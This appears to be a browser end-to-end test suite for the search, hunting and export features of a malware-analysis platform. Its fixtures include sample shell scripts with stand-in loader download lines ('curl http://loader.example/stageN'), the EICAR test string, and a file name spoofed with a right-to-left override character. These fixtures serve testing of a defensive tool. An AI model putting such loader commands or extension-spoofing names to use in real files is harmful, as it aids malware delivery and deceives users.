import assert from "node:assert/strict";
import type { ElementHandle, HTTPRequest, Page } from "puppeteer-core";
import { type Platform, startPlatform } from "../platform/platform.ts";
import { findBreaches, openPage, takePicture } from "./browser.ts";

const WAIT = { timeout: 30_000 };

/** Hands in small files and waits until they can be found. */
async function analyse(platform: Platform, files: readonly File[], tags: readonly string[]): Promise<void> {
  const body = new FormData();
  for (const file of files) body.append("file", file);
  body.append("options", JSON.stringify({ tags, priority: "interactive" }));
  const { tasks } = await platform.ask<{ tasks: { id: string }[] }>("/api/v1/submissions", {
    method: "POST",
    body,
  });
  const open = new Set(tasks.map(({ id }) => id));
  const query = [...open].map((id) => `taskId=${id}`).join("&");
  const abort = new AbortController();
  const stream = await platform.request(`/api/v1/events?${query}`, { signal: abort.signal });
  let text = "";
  for await (const chunk of stream.body!.pipeThrough(new TextDecoderStream())) {
    text += chunk;
    for (const [, id] of text.matchAll(/"taskId":"(\w+)"[^}]*"status":"complete"/g)) open.delete(id!);
    if (open.size === 0) break;
  }
  abort.abort();
}

const file = (name: string, text: string) => new File([text], name);
const scripts = Array.from(
  { length: 6 },
  (_, at) => file(`loader-${at}.sh`, `#!/bin/sh\necho number ${at}\ncurl http://loader.example/stage${at}\n`),
);
const papers = Array.from(
  { length: 4 },
  (_, at) => file(`paper-${at}.txt`, `The plain paper number ${at}\n`),
);
const EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
const eicar = file("eicar.com", EICAR);
const turned = file("invoice\u202Efdp.txt", "An invoice for nobody\n");

/** Signs in and opens the search. */
async function openSearch(page: Page, platform: Platform): Promise<void> {
  await page.goto(`${platform.url}?view=search`);
  const key = await page.waitForSelector(">>> input[name=key]", WAIT);
  await key!.type(platform.key);
  await page.keyboard.press("Enter");
  await page.waitForSelector(">>> tr.hit", WAIT);
}

async function queryOf(page: Page): Promise<string> {
  return await page.$eval(
    ">>> input[role=combobox]",
    (input) => (input as unknown as { value: string }).value,
  );
}

/** Waits until the query says that, and the results are there. */
async function waitForQuery(page: Page, query: string): Promise<void> {
  await page.waitForFunction(
    (wanted) => new URLSearchParams(location.search).get("q") === wanted,
    WAIT,
    query,
  );
  assert.equal(await queryOf(page), query);
}

// deno-lint-ignore no-explicit-any -- this name exists in the page only
declare const location: any;
// deno-lint-ignore no-explicit-any
declare const document: any;
// deno-lint-ignore no-explicit-any
declare const DataTransfer: any, ClipboardEvent: any;

async function waitForHits(page: Page, count: number): Promise<void> {
  await page.waitForFunction(
    (wanted) => {
      // deno-lint-ignore no-explicit-any
      const app = (globalThis as any).document.querySelector("assay-app").shadowRoot;
      const results = app.querySelector("assay-search").shadowRoot.querySelector("assay-results");
      return results.pages.state.kind === "complete" && results.pages.total.value === wanted;
    },
    WAIT,
    count,
  );
}

async function press(page: Page, ...keys: Parameters<Page["keyboard"]["press"]>[0][]): Promise<void> {
  for (const key of keys) await page.keyboard.press(key);
}

/** Breaches of what is drawn when nothing is being asked for: results of the query before are dimmed meanwhile. */
async function breachesOf(page: Page): Promise<string[]> {
  await page.waitForSelector(">>> .stale", { ...WAIT, hidden: true });
  return await findBreaches(page);
}

async function find(page: Page, selector: string): Promise<ElementHandle> {
  return (await page.waitForSelector(`>>> ${selector}`, WAIT))!;
}

Deno.test("a query is typed with suggestions, told where it is wrong, and narrowed by values, facets and a span", async () => {
  await using platform = await startPlatform({ onTestStack: true });
  await analyse(platform, [...scripts, ...papers, turned, eicar], ["from-test"]);
  await using browser = await openPage();
  const { page, errors } = browser;
  await openSearch(page, platform);
  await waitForHits(page, 12);
  await find(page, "canvas");
  assert.deepEqual(await breachesOf(page), []);
  await takePicture(page, "search");

  // Suggestions of fields and values, by keyboard.
  const box = await find(page, "input[role=combobox]");
  await box.click();
  await page.keyboard.type("fileT");
  await find(page, "li[role=option]");
  await press(page, "ArrowDown", "Enter");
  assert.equal(await queryOf(page), "fileType:");
  const value = await find(page, "li[role=option] ::-p-text(text)");
  await takePicture(page, "search-suggestions");
  assert.deepEqual(await breachesOf(page), []);
  await value.click();
  await press(page, "Enter");
  await waitForQuery(page, "fileType:text");

  // An error has its place and a hint.
  await box.click({ count: 3 });
  await page.keyboard.type("verdct:malicious tag:a");
  const error = await find(page, "#said .error");
  assert.match(
    await error.evaluate((p) => p.textContent!),
    /character 1: expected the name of a field.*verdict/s,
  );
  await takePicture(page, "search-error");
  assert.deepEqual(await breachesOf(page), []);

  // A module says where a hit is.
  await box.click({ count: 3 });
  await page.keyboard.type("loader.example");
  await press(page, "Enter");
  await waitForHits(page, 6);
  const mark = await find(page, "mark");
  assert.equal(await mark.evaluate((m) => m.textContent), "loader.example");
  assert.match(
    await page.$eval(">>> .module", (m) => m.textContent!),
    /strings/,
  );
  assert.deepEqual(await breachesOf(page), []);
  await takePicture(page, "search-matches");

  // A value is added by the mouse, and another excluded by the keyboard; both are in the address.
  await (await find(page, "tr.hit button[data-field=fileType]")).click();
  await find(page, "[role=menuitem]:focus");
  assert.deepEqual(await breachesOf(page), []);
  await takePicture(page, "search-pivot");
  await press(page, "ArrowDown", "Enter");
  await waitForQuery(page, "loader.example fileType:shell");
  await waitForHits(page, 6);
  await page.focus(">>> button[data-field=name][data-value='loader-3.sh']");
  await press(page, "Enter");
  await find(page, "[role=menuitem]:focus");
  await press(page, "x");
  await waitForQuery(page, "loader.example fileType:shell NOT name:=loader-3.sh");
  await waitForHits(page, 5);

  // Back goes back; a facet narrows, and narrows no more when it is pressed again.
  await page.goBack();
  await waitForQuery(page, "loader.example fileType:shell");
  await page.goBack();
  await waitForQuery(page, "loader.example");
  await waitForHits(page, 6);
  await box.click({ count: 3 });
  await press(page, "Backspace", "Escape", "Enter");
  await waitForHits(page, 12);
  await (await find(page, "button.leave[aria-label='Exclude fileType shell']")).click();
  await waitForQuery(page, "NOT fileType:shell");
  await waitForHits(page, 6);
  await (await find(page, "button.leave[data-drop='NOT fileType:shell']")).click();
  await waitForHits(page, 12);

  // The histogram is narrowed by keyboard, over sizes.
  const over = await find(page, "assay-histogram >>> select");
  await over.select("size");
  await find(page, "assay-histogram >>> button.link[data-at='1']");
  await page.focus(">>> .plot");
  await press(page, "ArrowRight", "Enter");
  await page.waitForFunction(() => /size/.test(new URLSearchParams(location.search).get("q") ?? ""), WAIT);
  await takePicture(page, "search-span");
  assert.deepEqual(await breachesOf(page), []);

  // It is narrowed by the mouse, too; and what stands out in that is told.
  await page.goto(`${platform.url}?view=search&over=size`);
  await waitForHits(page, 12);
  await find(page, "canvas[width]");
  const { x, y, width, height } = (await (await find(page, ".plot")).boundingBox())!;
  await page.mouse.move(x + 0.2 * width, y + height / 2);
  await page.mouse.down();
  await page.mouse.move(x + 0.4 * width, y + height / 2, { steps: 3 });
  await page.mouse.move(x + 0.6 * width, y + height / 2, { steps: 3 });
  await page.mouse.up();
  await waitForQuery(page, "size:[16 TO 64}");
  await waitForHits(page, 11);
  await page.goto(`${platform.url}?view=search&q=loader.example`);
  await waitForHits(page, 6);
  await (await find(page, "summary::-p-text(What stands out)")).click();
  const standing = await find(page, "assay-significant >>> button.link[data-part='fileType:shell']");
  assert.deepEqual(await breachesOf(page), []);
  await takePicture(page, "search-significant");
  await standing.click();
  await waitForQuery(page, "loader.example fileType:shell");

  // Keys: help, an example of it, the first rows, one unfolded, one opened; the results are there when one comes back.
  await page.goto(`${platform.url}?view=search&q=fileType:shell`);
  await waitForHits(page, 6);
  await press(page, "?");
  const example = await find(page, "button.link[data-text='ip:10.0.0.0/8']");
  await find(page, "td ::-p-text(Shannon entropy of the whole file)");
  assert.deepEqual(await breachesOf(page), []);
  await page.emulateMediaFeatures([{ name: "prefers-color-scheme", value: "dark" }]);
  assert.deepEqual(await breachesOf(page), []);
  await takePicture(page, "search-help-dark");
  await example.click();
  await page.waitForFunction(() => document.activeElement.shadowRoot.querySelector("assay-search"), WAIT);
  assert.equal(await queryOf(page), "ip:10.0.0.0/8");
  await (await find(page, "h1")).click();
  await find(page, "assay-task-list");
  await page.goBack();
  await press(page, "?", "j", "j", "x", "e");
  await find(page, "tr.more");
  assert.deepEqual(await breachesOf(page), []);
  await takePicture(page, "search-unfolded-dark");
  await press(page, "o");
  await find(page, "article");
  await (await find(page, "button.back")).click();
  await find(page, "tr.hit.current");
  await page.setViewport({ width: 420, height: 860 });
  assert.deepEqual(await breachesOf(page), []);
  await takePicture(page, "search-narrow-dark");
  assert.deepEqual(errors, []);
});

Deno.test("a search is saved, hunts, and tells of its hits; a whole result is counted, tagged, put on a list and exported", async () => {
  await using platform = await startPlatform({ onTestStack: true });
  await analyse(platform, [...scripts, ...papers], ["from-test"]);
  await using browser = await openPage();
  const { page, errors } = browser;
  await openSearch(page, platform);
  await page.goto(`${platform.url}?view=search&q=loader.example`);
  await waitForHits(page, 6);

  // Saved, for all who are cleared for green.
  await (await find(page, "button::-p-text(Save search…)")).click();
  await (await find(page, "dialog[open] input[name=name]")).type("Loaders");
  await (await find(page, "dialog[open] select[name=tlp]")).select("green");
  assert.deepEqual(await breachesOf(page), []);
  await takePicture(page, "save-search");
  await press(page, "Enter");
  await page.waitForSelector(">>> dialog[open]", { ...WAIT, hidden: true });

  // It is offered where nothing is typed.
  const box = await find(page, "input[role=combobox]");
  await box.click({ count: 3 });
  await press(page, "Backspace");
  await find(page, "li[role=option]::-p-text(Loaders)");
  await press(page, "Escape");

  // It hunts, and tells of what comes in.
  await (await find(page, "nav a[href='/?view=searches']")).click();
  await (await find(page, "button::-p-text(Hunt…)")).click();
  await (await find(page, "dialog[open] input[name=tags]")).type("caught");
  await find(page, "dialog[open] input[value=yara]");
  assert.deepEqual(await breachesOf(page), []);
  await takePicture(page, "hunt");
  await (await find(page, "dialog[open] button.primary")).click();
  await find(page, "td ::-p-text(live, 0 hits)");
  assert.deepEqual(await breachesOf(page), []);
  await takePicture(page, "searches");
  await analyse(platform, [file("late.sh", "#!/bin/sh\ncurl http://loader.example/late\n")], []);
  const count = await find(page, "b[aria-label='1 unread']");
  await find(page, "td ::-p-text(live, 1 hit)");
  await count.click();
  const hit = await find(page, "tr.unread button.link");
  assert.deepEqual(await breachesOf(page), []);
  await takePicture(page, "notifications");
  await hit.click();
  await find(page, "article");
  await page.waitForSelector(">>> b[aria-label='1 unread']", { ...WAIT, hidden: true });

  // A list is made.
  await (await find(page, "nav a[href='/?view=lists']")).click();
  await (await find(page, "button::-p-text(New list…)")).click();
  await (await find(page, "dialog[open] input[name=name]")).type("Case 7");
  await press(page, "Enter");
  await find(page, "[aria-current=true]::-p-text(Case 7)");

  // All that is found is tagged, once the number is confirmed.
  await page.goto(`${platform.url}?view=search&q=fileType:shell`);
  await waitForHits(page, 7);
  await (await find(page, "button[data-action=tag]")).click();
  await (await find(page, "dialog[open] input[name=tags]")).type("case-7");
  await press(page, "Enter");
  const confirm = await find(page, "dialog[open] button::-p-text(Tag 7 samples)");
  assert.deepEqual(await breachesOf(page), []);
  await takePicture(page, "bulk-tag");
  await confirm.click();
  await find(page, "p::-p-text(Tag: done, 7 looked at, 7 changed.)");
  assert.deepEqual(await breachesOf(page), []);
  await takePicture(page, "bulk-done");

  // Two that are selected go on the list; the list is searched.
  await page.goto(`${platform.url}?view=search&q=tag:case-7`);
  await waitForHits(page, 7);
  await press(page, "j", "x", "j", "x");
  await (await find(page, "button[data-action=add-to-list]")).click();
  await find(page, "dialog[open] option::-p-text(Case 7)");
  await (await find(page, "dialog[open] button.primary")).click();
  await (await find(page, "dialog[open] button::-p-text(2 samples)")).click();
  await find(page, "p::-p-text(done, 2 looked at, 2 changed.)");
  await (await find(page, "nav a[href='/?view=lists']")).click();
  await (await find(page, "button.link::-p-text(Case 7)")).click();
  await find(page, "button[data-sha256]");
  assert.deepEqual(await breachesOf(page), []);
  await takePicture(page, "lists");
  await (await find(page, "button::-p-text(Search in it)")).click();
  await waitForHits(page, 2);

  // An export is made and offered.
  await (await find(page, "button[data-action=export]")).click();
  await (await find(page, "dialog[open] select[name=format]")).select("hashes");
  await (await find(page, "dialog[open] button.primary")).click();
  await (await find(page, "dialog[open] button::-p-text(Export 2 samples)")).click();
  await find(page, "button::-p-text(Save the file)");

  // So are whole reports, of those that are found.
  await (await find(page, "button[data-action=reports]")).click();
  await (await find(page, "dialog[open] select[name=file]")).select("html");
  await (await find(page, "dialog[open] button.primary")).click();
  await (await find(page, "dialog[open] button::-p-text(Give away 2 samples)")).click();
  await find(page, "p::-p-text(Give away: done, 2 reports, 0 that failed.)");
  await page.emulateMediaFeatures([{ name: "prefers-color-scheme", value: "dark" }]);
  assert.deepEqual(await breachesOf(page), []);
  await takePicture(page, "export-dark");
  assert.deepEqual(errors, []);
});

Deno.test("a search can be stopped, says when its pages are gone or it fails, and takes ten thousand hashes", async () => {
  await using platform = await startPlatform({ onTestStack: true });
  await analyse(platform, scripts, []);
  await using browser = await openPage();
  const { page, errors } = browser;
  await openSearch(page, platform);
  await waitForHits(page, 6);
  const [first] = (await platform.ask<{ items: { sha256: string }[] }>("/api/v1/search")).items;

  // A pasted list has a hash a line, and no room in an address.
  const others = Array.from({ length: 9999 }, (_, at) => at.toString(16).padStart(64, "0"));
  const list = [...others, first!.sha256].join("\n");
  const box = await find(page, "input[role=combobox]");
  await box.evaluate((input, text) => {
    const clipboardData = new DataTransfer();
    clipboardData.setData("text/plain", text);
    input.dispatchEvent(new ClipboardEvent("paste", { clipboardData, bubbles: true, cancelable: true }));
  }, list);
  await find(page, ".note::-p-text(10,000 hashes)");
  await box.focus();
  await press(page, "Enter");
  await waitForHits(page, 1);
  assert(page.url().length < 200);
  await page.reload();
  await waitForHits(page, 1);
  assert.equal((await queryOf(page)).length, list.length);

  // What the server does not answer is stopped, and asked again.
  await page.setRequestInterception(true);
  let answer: "hold" | "away" | "pages" | "real" = "hold";
  const hit = (await platform.ask<{ items: object[] }>("/api/v1/search")).items[0];
  const problem = (status: number, code: string) => ({
    status,
    contentType: "application/problem+json",
    body: JSON.stringify({ code, title: code, detail: `It is ${code}`, status }),
  });
  const held: HTTPRequest[] = [];
  const abandoned = Promise.withResolvers<string | undefined>();
  page.on("requestfailed", (request) => {
    if (held.includes(request)) abandoned.resolve(request.failure()?.errorText);
  });
  page.on("request", (request) => {
    const { pathname, searchParams } = new URL(request.url());
    if (pathname !== "/api/v1/search" || answer === "real") void request.continue();
    else if (answer === "hold") held.push(request);
    else if (answer === "away") void request.respond(problem(503, "unavailable"));
    else if (searchParams.has("cursor")) void request.respond(problem(410, "cursor-expired"));
    else {
      const items = Array.from({ length: 100 }, () => hit);
      const body = JSON.stringify({ total: { value: 10_000, exact: false }, items, cursor: "next" });
      void request.respond({ contentType: "application/json", body });
    }
  });
  await page.goto(`${platform.url}?view=search&q=loader.example`);
  await (await find(page, "button::-p-text(Stop)")).click();
  const again = await find(page, "button::-p-text(Search again)");
  assert.equal(await abandoned.promise, "net::ERR_ABORTED");
  assert.deepEqual(await breachesOf(page), []);

  answer = "away";
  await again.click();
  const retry = await find(page, "[role=alert] button::-p-text(Try again)");
  assert.deepEqual(await breachesOf(page), []);

  // Pages of a moment that is no longer kept: said, and started again.
  answer = "pages";
  await retry.click();
  await find(page, "p ::-p-text(at least 10,000)");
  await page.$eval(">>> .scroll", (scroll) => scroll.scrollTo(0, 1e6));
  const restart = await find(page, "[role=alert] button::-p-text(Search again)");
  // A row that is half under the head of the table is too small a target for axe.
  await page.$eval(">>> .scroll", (scroll) => scroll.scrollTo(0, 0));
  await find(page, "tr.hit [data-at='0']");
  assert.deepEqual(await breachesOf(page), []);
  await takePicture(page, "search-expired");
  answer = "real";
  await restart.click();
  await waitForHits(page, 6);
  const wanted = /Failed to load resource.*(410|503)/;
  assert.deepEqual(errors.filter((error) => !wanted.test(error)), []);
});
